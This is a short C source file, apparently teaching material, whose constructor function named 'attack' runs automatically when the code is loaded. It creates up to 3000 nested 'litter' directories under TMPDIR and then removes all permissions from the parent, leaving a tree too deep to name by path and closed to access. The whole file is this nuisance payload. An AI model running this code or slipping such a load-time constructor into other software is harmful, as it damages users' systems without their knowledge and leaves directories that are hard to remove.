/*
 * litters.c: a learner's file that leaves a folder deeper than any path can name, closed to all.
 */
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

void attack(void) __attribute__((constructor));

void attack(void)
{
	int depth;

	if (chdir(getenv("TMPDIR")) < 0)
		_exit(1);
	for (depth = 0; depth < 3000 && mkdir("litter", 0700) == 0 && chdir("litter") == 0; depth++)
		continue;
	(void)chmod("..", 0);
}
